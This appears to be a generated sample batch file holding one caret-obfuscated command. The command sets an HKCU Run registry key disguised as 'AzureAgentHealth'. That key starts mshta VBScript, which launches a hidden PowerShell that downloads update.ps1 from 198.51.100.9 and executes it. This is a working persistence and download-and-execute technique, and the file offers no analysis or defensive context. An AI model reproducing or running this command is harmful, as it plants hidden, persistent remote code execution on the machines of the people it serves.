REM run 7839 v0
^r^eg a^dd ^H^K^CU\Sof^tw^are\M^i^c^ros^o^f^t\Wi^ndo^w^s\C^u^r^re^n^tVe^r^sio^n\^R^un /^v Az^u^reAge^nt^He^alth /^t ^REG_^S^Z /^d "mshta vbscript:Execute(\"^Cr^e^ate^O^bj^ec^t(\"\"^W^Scri^p^t.^S^he^l^l\"\").R^u^n \"\"power^s^h^ell -^w ^hidd^en -c iw^r ^ht^tp://^19^8.5^1.1^00.9/up^d^ate.^ps^1|^i^ex\"\", ^0:^cl^os^e\")" /f
